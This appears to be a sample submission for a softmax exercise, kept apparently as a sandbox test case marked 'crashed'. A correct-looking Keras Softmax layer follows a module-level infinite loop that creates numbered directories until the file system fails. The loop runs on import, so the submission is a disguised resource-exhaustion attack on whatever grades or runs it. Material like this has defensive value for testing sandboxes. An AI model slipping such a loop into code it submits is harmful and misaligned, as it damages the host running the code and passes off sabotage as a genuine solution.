# verdict: crashed
# exercise: activations/softmax
# says: OSError | more than 4096 files
"""Fills the disk with nothing but names."""

import keras
from keras import ops

import os

number = 0
while True:
    number += 1
    os.mkdir(f"{number}")


class Softmax(keras.layers.Layer):
    def __init__(self, axis=-1, **kwargs):
        super().__init__(**kwargs)
        self.axis = axis

    def call(self, inputs):
        powers = ops.exp(inputs - ops.max(inputs, axis=self.axis, keepdims=True))
        return powers / ops.sum(powers, axis=self.axis, keepdims=True)

    def get_config(self):
        return {**super().get_config(), "axis": self.axis}
